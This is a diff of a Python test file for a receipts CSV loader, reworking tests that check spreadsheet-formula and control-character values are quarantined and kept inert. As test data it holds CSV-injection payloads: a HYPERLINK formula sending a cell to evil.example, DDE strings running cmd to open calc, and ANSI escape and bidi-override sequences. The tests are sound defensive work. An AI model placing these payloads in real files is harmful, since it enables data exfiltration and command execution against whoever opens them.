@@ -73,18 +73,28 @@ def test_sql_looking_text_is_stored_verbatim_and_inert(fresh_db, report):
     assert _rows(fresh_db, "select to_regclass('raw.receipts') is not null")[0][0]
 
 
-@pytest.mark.parametrize("formula", ['"=HYPERLINK(""http://evil.example/?q=""&A1,""Bấm vào đây"")"',
-                                     "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-                                     " =1+1"])
-def test_spreadsheet_formula_quarantines_the_row(fresh_db, report, formula):
-    _set_cell(report, 6, RECEIPT_NO, formula)
+FORMULAS = {  # line -> receipt number as written in the file (the first one quoted, as CSV needs)
+    5: '"=HYPERLINK(""http://evil.example/?q=""&A1,""Bấm vào đây"")"',
+    6: "+cmd|' /C calc'!A0",
+    7: "@SUM(1+1)*cmd|' /C calc'!A0",
+    8: "-2+3+cmd|' /C calc'!A0",
+    9: " =1+1",
+}
+
+
+def test_spreadsheet_formulas_quarantine_their_rows(fresh_db, report):
+    for line, formula in FORMULAS.items():
+        _set_cell(report, line, RECEIPT_NO, formula)
     _, summary = _run(report.parents[2])
-    assert (summary.rows_loaded, summary.rows_quarantined) == (8, 1)
-    (line, reasons, original), = _rows(fresh_db, "select line_no, reasons, original from raw.quarantine")
-    assert line == 6 and any("spreadsheet formula" in r for r in reasons)
-    sent = formula.strip('"').replace('""', '"') if formula.startswith('"') else formula
-    assert original["receipt_no"] == sent  # kept as sent, as jsonb text: inert
-    assert not any(r.lstrip()[:1] in ("=", "+", "@", "-") for r in reasons)
+    assert (summary.rows_loaded, summary.rows_quarantined) == (4, 5)
+    rows = _rows(fresh_db, "select line_no, reasons, original from raw.quarantine order by line_no")
+    assert [r[0] for r in rows] == sorted(FORMULAS)
+    for line, reasons, original in rows:
+        assert any("spreadsheet formula" in r for r in reasons), reasons
+        assert not any(r.lstrip()[:1] in ("=", "+", "@", "-") for r in reasons)
+        written = FORMULAS[line]
+        sent = written[1:-1].replace('""', '"') if written.startswith('"') else written
+        assert original["receipt_no"] == sent  # kept as sent, as jsonb text: inert
     assert _rows(fresh_db, "select count(*) from raw.receipts where receipt_no !~ '^[0-9]+$'") == [(0,)]
 
 
@@ -94,14 +104,20 @@ def test_negative_number_text_is_not_a_formula(fresh_db, report):
     assert (summary.rows_loaded, summary.rows_quarantined) == (9, 0)
 
 
-@pytest.mark.parametrize("text", ["BD-288-01\x1b[2J\x1b[31m", "BD-288-01\x07", "10-882-DB\u202e", "BD\x9b2J288"])
-def test_control_characters_quarantine_the_row(fresh_db, report, text):
-    _set_cell(report, 7, COLLECTION_POINT, text)
+CONTROLS = {5: "BD-288-01\x1b[2J\x1b[31m", 6: "BD-288-01\x07", 7: "10-882-DB\u202e", 8: "BD\x9b2J288"}
+
+
+def test_control_characters_quarantine_their_rows(fresh_db, report):
+    for line, text in CONTROLS.items():
+        _set_cell(report, line, COLLECTION_POINT, text)
     _, summary = _run(report.parents[2])
-    assert (summary.rows_loaded, summary.rows_quarantined) == (8, 1)
-    (line, reasons), = _rows(fresh_db, "select line_no, reasons from raw.quarantine")
-    assert line == 7 and any("control characters" in r for r in reasons)
-    assert not any(re.search(r"[\x00-\x1f\x7f-\x9f\u202e]", r) for r in reasons)  # the reason is escaped
+    assert (summary.rows_loaded, summary.rows_quarantined) == (5, 4)
+    rows = _rows(fresh_db, "select line_no, reasons, original from raw.quarantine order by line_no")
+    assert [r[0] for r in rows] == sorted(CONTROLS)
+    for line, reasons, original in rows:
+        assert any("control characters" in r for r in reasons), reasons
+        assert not any(re.search(r"[\x00-\x1f\x7f-\x9f\u202e]", r) for r in reasons)  # the reason is escaped
+        assert original["collection_point"] == CONTROLS[line]  # the value itself only in jsonb
 
 
 def test_province_path_traversal_is_refused(fresh_db, source):
